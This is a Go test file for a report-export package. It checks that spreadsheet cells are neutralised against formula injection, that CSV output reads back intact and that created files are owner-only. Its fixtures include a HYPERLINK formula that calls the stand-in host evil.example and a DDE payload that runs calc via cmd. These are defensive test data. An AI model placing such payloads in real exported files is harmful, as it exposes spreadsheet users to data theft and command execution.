package outfile

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"syscall"
	"testing"
)

func TestCellNeutralizesFormulas(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x","点击核实")`, `'=HYPERLINK("http://evil.example/?x","点击核实")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"-1e3", "'-1e3"},
		{"--1", "'--1"},
		{"-12", "-12"},
		{"-0.5", "-0.5"},
		{"+12", "'+12"},
		{"", ""},
		{"灵源鞋业有限公司", "灵源鞋业有限公司"},
		{"91350582MA2YQ0XB4K", "91350582MA2YQ0XB4K"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"},
		{"'=1", "'=1"},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestCSVWriterWritesInertCellsThatReadBack(t *testing.T) {
	var b bytes.Buffer
	w := NewCSV(&b)
	row := []string{"字段差异", "=cmd|' /C calc'!A0", "甲,乙", "say \"hi\"", "-7"}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"字段差异", "'=cmd|' /C calc'!A0", "甲,乙", "say \"hi\"", "-7"}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d: got %q, want %q", i, got[i], want[i])
		}
	}
}

func TestCreateIsOwnerOnly(t *testing.T) {
	old := syscall.Umask(0) // the most permissive umask must not widen the file
	defer syscall.Umask(old)
	dir := t.TempDir()
	fresh := filepath.Join(dir, "对账.csv")
	f, err := Create(fresh)
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	// A report written over an older, world-readable one becomes private too.
	existing := filepath.Join(dir, "旧对账.xlsx")
	if err := os.WriteFile(existing, []byte("old content, longer than the new"), 0o644); err != nil {
		t.Fatal(err)
	}
	f, err = Create(existing)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = f.WriteString("new")
	f.Close()
	for _, p := range []string{fresh, existing} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, want 0600", filepath.Base(p), fi.Mode().Perm())
		}
	}
	if b, _ := os.ReadFile(existing); string(b) != "new" {
		t.Errorf("the file written over holds %q, want only the new content", b)
	}
	if _, err := Create(filepath.Join(dir, "no such dir", "x.csv")); err == nil {
		t.Errorf("Create in a missing directory succeeded")
	}
}
